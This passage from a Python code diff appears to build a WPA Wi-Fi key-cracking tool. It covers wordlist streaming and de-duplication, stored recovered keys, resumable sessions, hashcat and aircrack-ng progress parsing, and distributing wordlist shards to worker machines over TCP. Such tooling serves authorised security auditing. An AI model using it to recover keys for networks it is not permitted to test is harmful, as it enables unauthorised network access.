+                    break
+                lines += chunk.count(b'\n')
+                last = chunk[-1:]
+        finally:
+            f.close()
+            stream.close()
+        return lines if last == b'\n' else lines + 1
+
+class WordlistStream:
+    """
+    Feeds a wordlist into a cracker's stdin, decompressing .gz/.bz2/.xz/.zst
+    lists on the fly so they never have to be unpacked to disk. An external
+    decompressor (pigz, gzip, xz, zstd) is used when installed, with Python's
+    own modules as fallback. Writes block when the cracker's pipe is full, so
+    the decompressor only runs as fast as the cracker consumes candidates.
+    """
+    CHUNK = 64 * 1024 # One pipe buffer, keeps the fed position close to what was consumed
+    DECOMPRESSORS = {
+        '.gz': (['pigz', '-dc'], ['gzip', '-dc']),
+        '.bz2': (['lbzip2', '-dc'], ['bzip2', '-dc']),
+        '.xz': (['xz', '-dc'],),
+        '.zst': (['zstd', '-dc'],),
+    }
+    MODULES = {'.gz': 'gzip', '.bz2': 'bz2', '.xz': 'lzma'}
+
+    def __init__(self, path, start_offset=0, start_line=0):
+        self.path = path
+        self.start_offset = start_offset # Uncompressed byte offset to start feeding from (a line start)
+        self.start_line = start_line # Number of lines before start_offset
+        self.bytes_fed = 0
+        self.lines_fed = 0
+        self.completed = False # True once the whole list was handed over
+        self.checkpoints = [(start_line, start_offset)] # (line number, byte offset) at chunk ends
+        self.started = None
+        self.finished = None
+        self._decompressor = None
+        self._thread = None
+
+    @classmethod
+    def compression(cls, path):
+        """Returns the compression extension of a wordlist, or None for plain text."""
+        ext = os.path.splitext(path)[1].lower()
+        return ext if ext in cls.DECOMPRESSORS else None
+
+    def open_source(self):
+        """Opens the wordlist for reading uncompressed bytes, positioned at start_offset."""
+        ext = self.compression(self.path)
+        if ext is None:
+            source = open(self.path, 'rb')
+            source.seek(self.start_offset)
+            return source
+        for cmd in self.DECOMPRESSORS[ext]:
+            if shutil.which(cmd[0]):
+                self._decompressor = subprocess.Popen(
+                    cmd + [self.path], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
+                )
+                source = self._decompressor.stdout
+                break
+        else:
+            if ext not in self.MODULES:
+                raise RuntimeError(f"No decompressor found for '{self.path}' (install '{self.DECOMPRESSORS[ext][0][0]}').")
+            import importlib
+            source = importlib.import_module(self.MODULES[ext]).open(self.path, 'rb')
+        # Compressed streams cannot seek, skip to the start offset by reading
+        remaining = self.start_offset
+        while remaining > 0:
+            skipped = source.read(min(remaining, self.CHUNK))
+            if not skipped:
+                break
+            remaining -= len(skipped)
+        return source
+
+    def start(self, command, **popen_kwargs):
+        """Starts 'command' with the wordlist on its stdin and returns the process."""
+        source = self.open_source()
+        process = subprocess.Popen(command, stdin=subprocess.PIPE, **popen_kwargs)
+        # The pump thread owns the pipe from now on; keep Popen.communicate() away from it
+        sink, process.stdin = process.stdin, None
+        self.started = time.monotonic()
+        self._thread = threading.Thread(target=self._pump, args=(source, sink), daemon=True)
+        self._thread.start()
+        return process
+
+    def _pump(self, source, sink):
+        try:
+            while True:
+                # Chunks always end on a line boundary, so every checkpoint is a valid resume point
+                chunk = source.read(self.CHUNK)
+                if not chunk:
+                    break
+                if not chunk.endswith(b'\n'):
+                    chunk += source.readline()
+                sink.write(chunk)
+                self.bytes_fed += len(chunk)
+                self.lines_fed += chunk.count(b'\n')
+                self.checkpoints.append((self.start_line + self.lines_fed, self.start_offset + self.bytes_fed))
+            self.completed = True
+        except (BrokenPipeError, ValueError, OSError):
+            pass # The cracker exited (key found, stopped or crashed)
+        finally:
+            self.finished = time.monotonic()
+            for stream in (sink, source):
+                try:
+                    stream.close()
+                except (BrokenPipeError, OSError):
+                    pass
+            self.close()
+
+    def close(self):
+        """Stops the external decompressor, if one was started."""
+        if self._decompressor:
+            if self._decompressor.poll() is None:
+                self._decompressor.terminate()
+            self._decompressor.wait()
+
+    def wait(self, timeout=None):
+        if self._thread:
+            self._thread.join(timeout)
+
+    @property
+    def position(self):
+        """Uncompressed offset in the wordlist up to which data was handed to the cracker."""
+        return self.start_offset + self.bytes_fed
+
+    def resume_point(self, margin=1024 * 1024, consumed_lines=None):
+        """
+        Returns (line, offset) of a line boundary that the cracker has certainly
+        processed. When the cracker reported how many candidates it tried, that
+        is the last checkpoint at or before it; otherwise the last checkpoint
+        at least 'margin' bytes before what was handed over, which covers the
+        pipe and the cracker's own read-ahead.
+        """
+        if consumed_lines is not None:
+            for line, offset in reversed(self.checkpoints):
+                if line <= self.start_line + consumed_lines:
+                    return line, offset
+            return self.checkpoints[0]
+        safe = self.position - margin
+        for line, offset in reversed(self.checkpoints):
+            if offset <= safe:
+                return line, offset
+        return self.checkpoints[0]
+
+    @property
+    def rate(self):
+        """Average feed rate in bytes per second."""
+        if not self.started:
+            return 0.0
+        elapsed = (self.finished or time.monotonic()) - self.started
+        return self.bytes_fed / elapsed if elapsed > 0 else 0.0
+
+class WordlistNormalizer:
+    """
+    Turns one or more wordlists into a list a WPA cracker can use without
+    waste: candidates shorter than 8 or longer than 63 bytes are dropped and
+    duplicates are removed, keeping the first occurrence in order.
+    Lists that fit the memory budget are de-duplicated with an in-memory set.
+    Bigger ones go through a hash-partitioned external pass: candidates are
+    spread over bucket files, each bucket is de-duplicated on its own, and
+    the survivors are merged back into their original order.
+    The result is cached, keyed by the sources' fingerprints.
+    """
+    MIN_LENGTH = 8
+    MAX_LENGTH = 63
+    ENTRY_COST = 120 # Rough bytes of memory per distinct candidate held in a set
+    MAX_BUCKETS = 512 # Bucket files open at the same time
+    MAX_SPLIT_DEPTH = 4
+    RECORD = struct.Struct('>QB') # Sequence number and length in front of each candidate in a bucket file
+
+    def __init__(self, catalog=None, memory_limit=512 * 1024 * 1024, cache_dir=None):
+        self.catalog = catalog
+        self.memory_limit = memory_limit
+        self.cache_dir = cache_dir or os.path.join(CACHE_DIR, 'normalized')
+
+    def _fingerprint(self, path):
+        if self.catalog:
+            return self.catalog.current_fingerprint(path)
+        return WordlistCatalog.fingerprint(path)
+
+    def _estimated_lines(self, path):
+        entry = self.catalog.entry(path) if self.catalog else None
+        if entry and entry.get("lines") is not None:
+            return entry["lines"]
+        size = os.path.getsize(path)
+        # Assume ~10 bytes per line, and ~3x expansion for compressed lists
+        return size * (3 if WordlistStream.compression(path) else 1) // 10
+
+    def _candidates(self, sources, stats):
+        """Yields valid candidates from all sources in order, counting what is dropped."""
+        for path in sources:
+            stream = WordlistStream(path)
+            source = stream.open_source()
+            try:
+                for line in source:
+                    stats["total"] += 1
+                    line = line.rstrip(b'\r\n')
+                    if len(line) < self.MIN_LENGTH:
+                        stats["too_short"] += 1
+                    elif len(line) > self.MAX_LENGTH:
+                        stats["too_long"] += 1
+                    else:
+                        yield line
+            finally:
+                source.close()
+                stream.close()
+
+    def normalize(self, sources):
+        """
+        Normalizes the given wordlists into one list. Returns a dict with the
+        output "path", the counters ("total", "too_short", "too_long",
+        "duplicates", "kept") and whether the result came from the cache.
+        """
+        sources = [os.path.abspath(p) for p in sources]
+        key = hashlib.blake2b(digest_size=16)
+        for path in sources:
+            st = os.stat(path)
+            key.update(f"{path}|{st.st_size}|{st.st_mtime_ns}|{self._fingerprint(path)}\n".encode())
+        key = key.hexdigest()
+        output = os.path.join(self.cache_dir, f"{key}.txt")
+        meta_file = os.path.join(self.cache_dir, f"{key}.json")
+        try:
+            with open(meta_file) as f:
+                meta = json.load(f)
+            if os.path.exists(output):
+                return dict(meta, cached=True)
+        except (OSError, ValueError):
+            pass
+
+        os.makedirs(self.cache_dir, exist_ok=True)
+        stats = {"total": 0, "too_short": 0, "too_long": 0, "duplicates": 0, "kept": 0}
+        estimated = sum(self._estimated_lines(p) for p in sources)
+        fd, tmp_path = tempfile.mkstemp(dir=self.cache_dir, suffix='.tmp')
+        try:
+            with os.fdopen(fd, 'wb', buffering=1024 * 1024) as out:
+                if estimated * self.ENTRY_COST <= self.memory_limit:
+                    self._dedupe_in_memory(sources, stats, out)
+                else:
+                    buckets = max(2, -(-estimated * self.ENTRY_COST // self.memory_limit))
+                    self._dedupe_partitioned(sources, stats, out, min(buckets, self.MAX_BUCKETS))
+            os.replace(tmp_path, output)
+        except BaseException:
+            if os.path.exists(tmp_path):
+                os.remove(tmp_path)
+            raise
+
+        meta = dict(stats, path=output, sources=sources)
+        atomic_write_json(meta_file, meta)
+        if self.catalog and len(sources) == 1:
+            self.catalog.register_derived(sources[0], "normalized", meta)
+        return dict(meta, cached=False)
+
+    def _dedupe_in_memory(self, sources, stats, out):
+        seen = set()
+        for line in self._candidates(sources, stats):
+            if line in seen:
+                stats["duplicates"] += 1
+                continue
+            seen.add(line)
+            out.write(line + b'\n')
+            stats["kept"] += 1
+
+    def _dedupe_partitioned(self, sources, stats, out, buckets):
+        with tempfile.TemporaryDirectory(dir=self.cache_dir) as work:
+            records = enumerate(self._candidates(sources, stats))
+            runs = self._dedupe_buckets(records, work, "bucket", buckets, 0, stats)
+            # Merge the runs back into the original order
+            for _, line in heapq.merge(*(self._read_records(p) for p in runs)):
+                out.write(line + b'\n')
+                stats["kept"] += 1
+
+    def _read_records(self, path):
+        with open(path, 'rb', buffering=256 * 1024) as f:
+            while True:
+                header = f.read(self.RECORD.size)
+                if not header:
+                    return
+                seq, length = self.RECORD.unpack(header)
+                yield seq, f.read(length)
+
+    def _write_records(self, path, records):
+        with open(path, 'wb', buffering=256 * 1024) as f:
+            for seq, line in records:
+                f.write(self.RECORD.pack(seq, len(line)) + line)
+
+    def _dedupe_buckets(self, records, work, prefix, buckets, depth, stats):
+        """
+        Spreads (sequence number, candidate) records over bucket files by hash
+        and de-duplicates each bucket on its own. Returns one run file per
+        bucket with the survivors sorted by sequence number. Buckets are
+        sized from what was actually written to them: one that still does not
+        fit the memory budget is split again with a differently salted hash.
+        """
+        paths = [os.path.join(work, f"{prefix}-{i}") for i in range(buckets)]
+        counts, sizes = [0] * buckets, [0] * buckets
+        files = [open(path, 'wb', buffering=256 * 1024) for path in paths]
+        try:
+            for seq, line in records:
+                i = hash((depth, line)) % buckets
+                files[i].write(self.RECORD.pack(seq, len(line)) + line)
+                counts[i] += 1
+                sizes[i] += len(line)
+        finally:
+            for f in files:
+                f.close()
+
+        total = sum(counts)
+        runs = []
+        for i, path in enumerate(paths):
+            run_path = f"{path}.run"
+            cost = counts[i] * self.ENTRY_COST + sizes[i]
+            # A bucket holding every record of the split is one repeated candidate, splitting it again cannot help
+            if cost > self.memory_limit and counts[i] < total and depth < self.MAX_SPLIT_DEPTH:
+                sub_buckets = min(max(2, -(-cost // self.memory_limit)), self.MAX_BUCKETS)
+                sub_runs = self._dedupe_buckets(self._read_records(path), work, f"{path}.{depth + 1}", sub_buckets, depth + 1, stats)
+                os.remove(path)
+                # Merge the pieces into a single run so the final merge stays at most MAX_BUCKETS wide
+                self._write_records(run_path, heapq.merge(*(self._read_records(p) for p in sub_runs)))
+                for sub_run in sub_runs:
+                    os.remove(sub_run)
+            else:
+                first = {}
+                for seq, line in self._read_records(path):
+                    if line in first:
+                        stats["duplicates"] += 1
+                    else:
+                        first[line] = seq
+                os.remove(path)
+                self._write_records(run_path, sorted(((seq, line) for line, seq in first.items())))
+                del first
+            runs.append(run_path)
+        return runs
+
+class ResultStore:
+    """
+    Local store of cracking results, keyed by a handshake fingerprint
+    (BSSID + ESSID + the EAPOL/PMKID material hashcat would use).
+    It keeps recovered keys and the fingerprints of wordlists that were run
+    to the end without success, so a repeated run can answer from the store
+    or skip work that is known to be pointless.
+    """
+    def __init__(self, path=None):
+        self.path = path or os.path.join(CACHE_DIR, 'results.json')
+        try:
+            with open(self.path) as f:
+                self._data = json.load(f)
+        except (OSError, ValueError):
+            self._data = {}
+
+    def save(self):
+        # mkstemp creates the file readable by its owner only, keys stay private
+        atomic_write_json(self.path, self._data)
+
+    @staticmethod
+    def handshake_fingerprints(export):
+        """
+        Returns {bssid: fingerprint} for every network in an Hc22000Exporter
+        result, computed from the hash lines that belong to that network.
+        """
+        material = {}
+        with open(export["hash_file"]) as f:
+            for line in f:
+                fields = line.strip().split('*')
+                if len(fields) >= 6:
+                    bssid = ':'.join(fields[3][i:i + 2] for i in range(0, 12, 2)).upper()
+                    material.setdefault(bssid, []).append(line.strip())
+        fingerprints = {}
+        for bssid, lines in material.items():
+            essid = export["report"]["networks"].get(bssid, {}).get("essid") or ""
+            digest = hashlib.blake2b(f"{bssid}|{essid}|".encode(), digest_size=16)
+            for line in sorted(lines):
+                digest.update(line.encode() + b'\n')
+            fingerprints[bssid] = digest.hexdigest()
+        return fingerprints
+
+    def lookup(self, fingerprint):
+        """Returns the stored record for a handshake ({bssid, essid, key, exhausted}) or None."""
+        return self._data.get(fingerprint)
+
+    def _record(self, fingerprint, bssid, essid):
+        record = self._data.setdefault(fingerprint, {"bssid": bssid, "essid": essid, "key": None, "exhausted": []})
+        record["updated"] = time.strftime('%Y-%m-%d %H:%M:%S')
+        return record
+
+    def record_key(self, fingerprint, bssid, essid, key):
+        self._record(fingerprint, bssid, essid)["key"] = key
+        self.save()
+
+    def mark_exhausted(self, fingerprint, bssid, essid, wordlist_fingerprint):
+        record = self._record(fingerprint, bssid, essid)
+        if wordlist_fingerprint not in record["exhausted"]:
+            record["exhausted"].append(wordlist_fingerprint)
+        self.save()
+
+    def is_exhausted(self, fingerprint, wordlist_fingerprint):
+        record = self._data.get(fingerprint)
+        return bool(record) and wordlist_fingerprint in record["exhausted"]
+
+class SessionStore:
+    """
+    Named cracking sessions that can be paused with Ctrl+C and resumed later.
+    hashcat sessions use hashcat's own --session/--restore files; streamed
+    runs (aircrack-ng, or hashcat reading stdin) store the line and byte
+    offset in the wordlist they had safely reached.
+    """
+    def __init__(self, path=None):
+        self.path = path or os.path.join(CACHE_DIR, 'sessions.json')
+        try:
+            with open(self.path) as f:
+                self._data = json.load(f)
+        except (OSError, ValueError):
+            self._data = {}
+
+    @staticmethod
+    def new_name(cap_file, wordlist):
+        """Builds a readable, unique session name from the capture and wordlist names."""
+        base = f"{os.path.splitext(os.path.basename(cap_file))[0]}_{os.path.basename(wordlist).split('.')[0]}"
+        base = re.sub(r'[^A-Za-z0-9_-]+', '-', base)
+        return f"{base}_{time.strftime('%Y%m%d-%H%M%S')}"
+
+    def save(self, session):
+        session["updated"] = time.strftime('%Y-%m-%d %H:%M:%S')
+        self._data[session["name"]] = session
+        atomic_write_json(self.path, self._data)
+
+    def remove(self, name):
+        if self._data.pop(name, None) is not None:
+            atomic_write_json(self.path, self._data)
+
+    def list(self):
+        """Returns saved sessions, most recently updated first."""
+        return sorted(self._data.values(), key=lambda s: s.get("updated", ""), reverse=True)
+
+class CrackTelemetry:
+    """
+    Turns a cracking engine's output into structured progress samples: rate,
+    candidates tried, percent of the wordlist, ETA and, where the engine
+    reports them, device temperature and utilisation. hashcat is run with
+    --status-json; aircrack-ng's status screen is parsed. Samples are shown
+    on a single status line and appended to a JSONL metrics file.
+    """
+    AIRCRACK_STATUS = re.compile(rb'(\d+)(?:/(\d+))? keys tested \(([\d.]+) k/s\)')
+    AIRCRACK_FOUND = re.compile(rb'KEY FOUND! \[ (.*?) \]')
+    AIRCRACK_NOT_FOUND = (b'KEY NOT FOUND', b'Passphrase not in dictionary')
+
+    def __init__(self, engine, session, total_lines=None, start_line=0, metrics_dir=None, interval=1.0):
+        self.engine = engine # 'aircrack-ng' or 'hashcat'
+        self.session = session
+        self.total_lines = total_lines # Candidates in the whole wordlist, when known
+        self.start_line = start_line # Candidates skipped because the session was resumed
+        self.interval = interval
+        self.metrics_path = os.path.join(metrics_dir or os.path.join(CACHE_DIR, 'metrics'), f"{session}.jsonl")
+        self.latest = None # Most recent sample
+        self.outcome = None # 'found' or 'exhausted' when the engine said so
+        self.tried = 0 # Candidates tried in this run
+        self._buffer = b''
+        self._last_emit = 0.0
+        self._pending = None # Newest status not yet written because of the interval
+        self._host = socket.gethostname()
+
+    def feed(self, data):
+        """
+        Processes a chunk of engine output. Returns the bytes that should
+        still be shown to the user (anything that is not status output).
+        """
+        self._buffer = (self._buffer + data)[-64 * 1024:]
+        if self.engine == 'hashcat':
+            return self._feed_hashcat()
+        return self._feed_aircrack()
+
+    def _feed_hashcat(self):
+        passthrough = []
+        *lines, self._buffer = self._buffer.split(b'\n')
+        for line in lines:
+            if not line.startswith(b'{'):
+                passthrough.append(line + b'\n')
+                continue
+            try:
+                status = json.loads(line)
+            except ValueError:
+                continue
+            done, total = (status.get("progress") or [0, 0])[:2]
+            # Progress counts candidate x salt (ESSID) pairs
+            salts = max((status.get("recovered_salts") or [0, 1])[1], 1)
+            done, total = done // salts, total // salts
+            devices = status.get("devices") or []
+            speed = sum(d.get("speed", 0) for d in devices)
+            self.tried = done
+            if self.total_lines and not total:
+                total = self.total_lines - self.start_line # Reading stdin: hashcat cannot know the total
+            recovered = status.get("recovered_hashes") or [0, 0]
+            if recovered[0] and recovered[0] == recovered[1]:
+                self.outcome = 'found'
+            self._emit(speed, total, [
+                {"id": d.get("device_id"), "name": d.get("device_name"), "speed": d.get("speed"),
+                 "temp": d.get("temp"), "util": d.get("util")}
+                for d in devices
+            ])
+        return b''.join(passthrough)
+
+    def _feed_aircrack(self):
+        found = self.AIRCRACK_FOUND.search(self._buffer)
+        if found:
+            self.outcome = 'found'
+        elif any(marker in self._buffer for marker in self.AIRCRACK_NOT_FOUND):
+            self.outcome = 'exhausted'
+        statuses = self.AIRCRACK_STATUS.findall(self._buffer)
+        if statuses:
+            tried, total, rate = statuses[-1]
+            self.tried = int(tried)
+            total = int(total) if total else (self.total_lines - self.start_line if self.total_lines else None)
+            self._emit(float(rate), total, []) # aircrack-ng's "k/s" means keys per second
+            # Only keep what follows the last status, the screen is redrawn constantly
+            self._buffer = self._buffer[self._buffer.rfind(b'keys tested'):]
+        return b''
+
+    def _emit(self, rate, total, devices, force=False):
+        now = time.time()
+        self._pending = (rate, total, devices)
+        if not force and now - self._last_emit < self.interval:
+            return
+        self._pending = None
+        self._last_emit = now
+        remaining = (total - self.tried) if total else None
+        sample = {
+            "time": round(now, 3),
+            "host": self._host,
+            "engine": self.engine,
+            "session": self.session,
+            "rate": round(rate, 1),
+            "tried": self.tried,
+            "position": self.start_line + self.tried,
+            "total": total,
+            "percent": round(100 * (self.start_line + self.tried) / (self.start_line + total), 2) if total else None,
+            "eta": round(remaining / rate) if remaining is not None and rate > 0 else None,
+            "devices": devices,
+        }
+        self.latest = sample
+        os.makedirs(os.path.dirname(self.metrics_path), exist_ok=True)
+        with open(self.metrics_path, 'a') as f:
+            f.write(json.dumps(sample) + '\n')
+        self.show(sample)
+
+    def flush(self):
+        """Writes the newest status if the interval held it back."""
+        if self._pending:
+            self._emit(*self._pending, force=True)
+
+    @staticmethod
+    def format_rate(rate):
+        for unit in ('H/s', 'kH/s', 'MH/s', 'GH/s'):
+            if rate < 1000 or unit == 'GH/s':
+                return f"{rate:.1f} {unit}"
+            rate /= 1000
+
+    def show(self, sample):
+        """Draws a sample on one terminal line."""
+        parts = [f"[{sample['engine']}] {self.format_rate(sample['rate'])}", f"{sample['position']:,} tried"]
+        if sample["percent"] is not None:
+            parts[-1] += f" ({sample['percent']:.1f}%)"
+        if sample["eta"] is not None:
+            parts.append(f"ETA {sample['eta'] // 3600:02d}:{sample['eta'] % 3600 // 60:02d}:{sample['eta'] % 60:02d}")
+        for device in sample["devices"]:
+            temp = f" {device['temp']}°C" if device.get("temp") not in (None, -1) else ""
+            util = f" {device['util']}%" if device.get("util") not in (None, -1) else ""
+            parts.append(f"dev{device['id']}{temp}{util}")
+        sys.stdout.write(f"\r\033[K{Colors.OKCYAN}{' | '.join(parts)}{Colors.ENDC}")
+        sys.stdout.flush()
+
+class WordlistShards:
+    """
+    Splits an uncompressed wordlist into byte ranges that start and end on
+    line boundaries. The boundaries are found in a read-only mmap and the
+    workers read their range straight from the file (sendfile), so no copy
+    of the list is ever written.
+    """
+    MIN_SHARD = 64 * 1024
+    MAX_SHARD = 16 * 1024 * 1024
+
+    def __init__(self, path):
+        if WordlistStream.compression(path):
+            raise ValueError("sharding needs an uncompressed wordlist, normalize it first")
+        self.path = path
+        self.size = os.path.getsize(path)
+
+    def shard_size(self, workers):
+        """About eight shards per worker, so a slow worker holds back a small part of the list."""
+        return max(self.MIN_SHARD, min(self.MAX_SHARD, self.size // max(1, workers * 8)))
+
+    def split(self, shard_size):
+        """Returns [{index, start, end, lines}] covering the whole file."""
+        shards = []
+        if not self.size:
+            return shards
+        with open(self.path, 'rb') as f, mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as mm:
+            start = 0
+            while start < self.size:
+                end = mm.find(b'\n', min(start + shard_size, self.size) - 1)
+                end = self.size if end < 0 else end + 1
+                lines = 0
+                for offset in range(start, end, 1024 * 1024):
+                    lines += mm[offset:min(offset + 1024 * 1024, end)].count(b'\n')
+                if end == self.size and mm[end - 1:end] != b'\n':
+                    lines += 1 # Last line without a newline
+                shards.append({"index": len(shards), "start": start, "end": end, "lines": lines})
+                start = end
+        return shards
+
+def run_aircrack(cap_file, bssid, feed, cancel, threads=1):
+    """
+    Runs one aircrack-ng on 'threads' cores with the candidates written to
+    its stdin by feed(fd). Returns the key, or None when it is not among the
+    candidates. Stops early (returning None) when 'cancel' is set.
+    Raises OSError when aircrack-ng ends without a verdict: it exits with 1
+    on errors as well as on an exhausted list.
+    """
+    fd, key_file = tempfile.mkstemp(prefix='wificracker-', suffix='.key')
+    os.close(fd)
+    output = tempfile.TemporaryFile()
+    try:
+        process = subprocess.Popen(
+            ['aircrack-ng', '-q', '-p', str(threads), '-l', key_file, '-b', bssid, '-w', '-', cap_file],
+            stdin=subprocess.PIPE, stdout=output, stderr=subprocess.STDOUT
+        )
+
+        def pump():
+            try:
+                feed(process.stdin.fileno())
+            except (BrokenPipeError, OSError):
+                pass # aircrack-ng found the key or was stopped
+            finally:
+                try:
+                    process.stdin.close()
+                except OSError:
+                    pass
+        feeder = threading.Thread(target=pump, daemon=True)
+        feeder.start()
+        while True:
+            try:
+                process.wait(timeout=0.1)
+                break
+            except subprocess.TimeoutExpired:
+                if cancel.is_set():
+                    process.kill()
+                    process.wait()
+                    return None
+        feeder.join(timeout=1)
+        if os.path.getsize(key_file):
+            with open(key_file) as f:
+                return f.read().strip()
+        output.seek(0)
+        text = output.read()
+        if not any(marker in text for marker in CrackTelemetry.AIRCRACK_NOT_FOUND):
+            last = text.decode('utf-8', 'replace').strip().splitlines()[-1:] or ['no output']
+            raise OSError(f"aircrack-ng exited with {process.returncode}: {last[0]}")
+        return None
+    finally:
+        output.close()
+        os.remove(key_file)
+
+class LocalShardWorker:
+    """Cracks shards with one single-threaded aircrack-ng on this machine."""
+    def __init__(self, name, cap_file, bssid, wordlist):
+        self.name = name
+        self.cap_file = cap_file
+        self.bssid = bssid
+        self.wordlist = wordlist
+
+    def run(self, shard, cancel):
+        with open(self.wordlist, 'rb') as f:
+            def feed(fd):
+                offset, end = shard["start"], shard["end"]
+                while offset < end:
+                    # The kernel copies page cache to the pipe, the list never passes through Python
+                    sent = os.sendfile(fd, f.fileno(), offset, min(end - offset, 1024 * 1024))
+                    if not sent:
+                        break
+                    offset += sent
+            return run_aircrack(self.cap_file, self.bssid, feed, cancel)
+
+    def close(self):
+        pass
+
+class ShardWorkerServer:
+    """
+    Lets the machines of a lab network crack shards for another machine.
+    The protocol is JSON lines over TCP:
+
+        -> {"type": "hello", "token": ...}          <- {"type": "ready", "slots": N, "host": ...}
+        -> {"type": "job", "capture": <base64>, "bssid": ...}
+        -> {"type": "shard", "index": i, "data": <base64>}
+                                                    <- {"type": "result", "index": i, "key": ..., "seconds": ...}
+        -> {"type": "cancel"}                       <- {"type": "result", "index": i, "cancelled": true}
+
+    A coordinator opens one connection per slot, and every connection cracks
+    one shard at a time. With a 'token' the hello must carry the same token;
+    a token is required unless the server only listens on a loopback address.
+    Lines longer than MAX_HELLO (before the hello) or MAX_MESSAGE drop the
+    connection.
+    """
+    MAX_HELLO = 4096
+    MAX_MESSAGE = 64 * 1024 * 1024 # A base64 shard of WordlistShards.MAX_SHARD, or a capture, fits
+
+    def __init__(self, host='127.0.0.1', port=7878, slots=None, token=None):
+        self.host = host
+        self.port = port
+        self.slots = slots or os.cpu_count() or 1
+        self.token = token
+        self._socket = None
+
+    def start(self):
+        """
+        Binds the listening socket; returns the (host, port) actually used.
+        Raises ValueError when it is reachable from other machines and no
+        token is set.
+        """
+        import ipaddress
+        self._socket = socket.create_server((self.host, self.port))
+        address = self._socket.getsockname()[:2]
+        if not self.token and not ipaddress.ip_address(address[0]).is_loopback:
+            self.close()
+            raise ValueError(f"a token is required to listen on {address[0]}, which other machines can reach")
+        return address
+
+    def serve_forever(self):
+        if not self._socket:
+            self.start()
+        while True:
+            try:
+                connection, _ = self._socket.accept()
+            except OSError:
+                return # Closed
+            threading.Thread(target=self._handle, args=(connection,), daemon=True).start()
+
+    def close(self):
+        if self._socket:
+            self._socket.close()
+
+    def _handle(self, connection):
+        import base64
+        import hmac
+        stream = connection.makefile('rwb')
+        lock = threading.Lock()
+        cap_file = bssid = None
+        current = {} # The running shard: index, cancel event and thread
+
+        def send(message):
+            with lock:
+                stream.write(json.dumps(message).encode() + b'\n')
+                stream.flush()
+
+        def receive(limit):
+            line = stream.readline(limit + 1)
+            if len(line) > limit:
+                raise ValueError("message too long")
+            message = json.loads(line or b'null')
+            if message is not None and not isinstance(message, dict):
+                raise ValueError("not a JSON object")
+            return message
+
+        def stop_shard():
+            if current:
+                current["cancel"].set()
+                current["thread"].join(timeout=5)
+                current.clear()
+
+        def crack(index, data, cancel):
+            started = time.monotonic()
+
+            def feed(fd):
+                view = memoryview(data)
+                while view:
+                    view = view[os.write(fd, view[:1024 * 1024]):]
+            try:
+                key = run_aircrack(cap_file, bssid, feed, cancel)
+                if cancel.is_set():
+                    result = {"type": "result", "index": index, "cancelled": True}
+                else:
+                    result = {"type": "result", "index": index, "key": key, "seconds": round(time.monotonic() - started, 3)}
+            except (OSError, ValueError) as e:
+                result = {"type": "result", "index": index, "error": str(e)}
+            try:
+                send(result)
+            except (OSError, ValueError):
+                pass # The coordinator went away, there is nobody left to tell
+
+        try:
+            try:
+                hello = receive(self.MAX_HELLO)
+            except ValueError:
+                hello = None
+            if not hello or hello.get("type") != "hello" or (
+                    self.token and not hmac.compare_digest(str(hello.get("token")), self.token)):
+                send({"type": "error", "error": "bad hello or token"})
+                return
+            send({"type": "ready", "slots": self.slots, "host": socket.gethostname()})
+            while True:
+                message = receive(self.MAX_MESSAGE)
+                if message is None:
+                    break
+                if message["type"] == "job":
+                    # A new job replaces the previous one and its capture
+                    stop_shard()
+                    if cap_file:
+                        os.remove(cap_file)
+                        cap_file = None
+                    fd, cap_file = tempfile.mkstemp(prefix='wificracker-worker-', suffix='.cap')
+                    with os.fdopen(fd, 'wb') as f:
+                        f.write(base64.b64decode(message["capture"]))
+                    bssid = message["bssid"]
+                elif message["type"] == "shard" and not cap_file:
+                    send({"type": "result", "index": message.get("index"), "error": "shard before any job"})
+                elif message["type"] == "shard":
+                    cancel = threading.Event()
+                    thread = threading.Thread(target=crack, daemon=True,
+                                              args=(message["index"], base64.b64decode(message["data"]), cancel))
+                    current.update(cancel=cancel, thread=thread)
+                    thread.start()
+                elif message["type"] == "cancel" and current:
+                    current["cancel"].set()
+        except (OSError, ValueError, KeyError, TypeError):
+            pass # The coordinator went away or spoke nonsense; drop the connection
+        finally:
+            stop_shard()
+            if cap_file:
+                os.remove(cap_file)
+            connection.close()
+
+class RemoteShardWorker:
+    """One slot of a ShardWorkerServer, used by the scheduler like a local worker."""
+    MAX_REPLY = 64 * 1024
+
+    def __init__(self, name, stream, sock, wordlist):
+        self.name = name
+        self.stream = stream
+        self.socket = sock
+        self.wordlist = wordlist
+        self._lock = threading.Lock() # Between a shard's result and a late cancel for it
+
+    @classmethod
+    def connect(cls, address, cap_file, bssid, wordlist, token=None, timeout=10):
+        """Opens a connection per slot the server offers at 'host:port' and sends the job; returns the workers."""
+        import base64
+        host, _, port = address.rpartition(':')
+        if os.path.getsize(cap_file) * 4 // 3 + 1024 > ShardWorkerServer.MAX_MESSAGE:
+            raise OSError(f"{address}: '{cap_file}' is too large to send, compact it first")
+        with open(cap_file, 'rb') as f:
+            job = {"type": "job", "capture": base64.b64encode(f.read()).decode(), "bssid": bssid}
+        workers = []
+        slots = 1
+        try:
+            while len(workers) < slots:
+                sock = socket.create_connection((host or 'localhost', int(port)), timeout=timeout)
+                try:
+                    sock.settimeout(None)
+                    stream = sock.makefile('rwb')
+                    stream.write(json.dumps({"type": "hello", "token": token}).encode() + b'\n')
+                    stream.flush()
+                    try:
+                        ready = json.loads(stream.readline(cls.MAX_REPLY) or b'null')
+                    except ValueError:
+                        raise OSError(f"{address}: not a worker")
+                    if not isinstance(ready, dict) or ready.get("type") != "ready":
+                        raise OSError(f"{address}: {(ready if isinstance(ready, dict) else {}).get('error', 'no answer')}")
+                    slots = ready["slots"]
+                    stream.write(json.dumps(job).encode() + b'\n')
+                    stream.flush()
+                    workers.append(cls(f"{ready['host']}#{len(workers) + 1}", stream, sock, wordlist))
+                except BaseException:
+                    sock.close()
+                    raise
+        except BaseException:
+            # Do not leave the slots already set up connected to the server
+            for worker in workers:
+                worker.close()
+            raise
+        return workers
+
+    def run(self, shard, cancel):
+        import base64
+        with open(self.wordlist, 'rb') as f:
+            f.seek(shard["start"])
+            data = f.read(shard["end"] - shard["start"])
+        self.stream.write(json.dumps({"type": "shard", "index": shard["index"],
+                                      "data": base64.b64encode(data).decode()}).encode() + b'\n')
+        self.stream.flush()
+        finished = threading.Event()
+        threading.Thread(target=self._forward_cancel, args=(cancel, finished), daemon=True).start()
+        line = self.stream.readline(self.MAX_REPLY)
+        with self._lock:
+            finished.set()
+        if not line:
+            raise OSError(f"{self.name}: connection lost")
+        result = json.loads(line)
+        if result.get("error"):
